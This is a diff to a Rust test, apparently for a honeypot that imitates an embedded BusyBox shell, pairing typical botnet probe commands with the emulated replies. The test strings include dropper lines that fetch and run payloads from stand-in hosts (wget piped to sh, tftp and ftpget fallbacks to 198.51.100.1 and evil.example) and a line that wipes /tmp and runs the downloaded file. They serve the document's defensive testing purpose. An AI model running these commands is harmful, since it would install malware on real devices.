@@ -41,11 +41,27 @@ fn probes_are_answered_as_ash_answers_them() {
         (r"echo -e '\x6b\x61\x6d\x69'", "kami\n"),
         (r"/bin/busybox echo -ne '\x67a'", "ga"),
         ("echo hi there; echo \"a;b\" '|' c\\ d", "hi there\na;b | c d\n"),
-        ("wget http://198.51.100.1/b -O- | sh", ""),
+        (
+            "wget http://198.51.100.1/b -O- | sh; echo $?",
+            "Connecting to 198.51.100.1 (198.51.100.1:80)\nwget: can't connect to remote host (198.51.100.1): Network is unreachable\n0\n",
+        ),
+        (
+            "wget -q 198.51.100.1:81/b || tftp -g -l b -r c 198.51.100.1 || ftpget 198.51.100.1 b c; echo $?",
+            "wget: can't connect to remote host (198.51.100.1): Network is unreachable\ntftp: sendto: Network is unreachable\n\
+             ftpget: can't connect to remote host (198.51.100.1): Network is unreachable\n1\n",
+        ),
+        (
+            "wget http://evil.example/b; tftp evil.example -g -r b; ftpget -v evil.example b c; wget nosuch",
+            "wget: bad address 'evil.example'\ntftp: bad address 'evil.example'\nftpget: bad address 'evil.example'\nwget: bad address 'nosuch'\n",
+        ),
+        ("rm b; rm -f b; rmdir c", "rm: can't remove 'b': No such file or directory\nrmdir: 'c': No such file or directory\n"),
         ("sh", &device.greeting()),
         ("cd /tmp || cd /var/run || cd /mnt", ""),
         ("rm -rf /tmp/*; chmod 777 a; ./a tcp; /tmp/a; A=b; while true; do x; done", ""),
-        ("/bin/busybox wget http://198.51.100.1/b", ""),
+        (
+            "/bin/busybox wget http://198.51.100.1:80/b",
+            "Connecting to 198.51.100.1:80 (198.51.100.1:80)\nwget: can't connect to remote host (198.51.100.1): Network is unreachable\n",
+        ),
         ("curl http://198.51.100.1/b; /usr/bin/python3 x", "-sh: curl: not found\n-sh: /usr/bin/python3: not found\n"),
         ("uname -a", &uname),
         ("uname -s -n -r -m; uname -v; uname -p", &some),
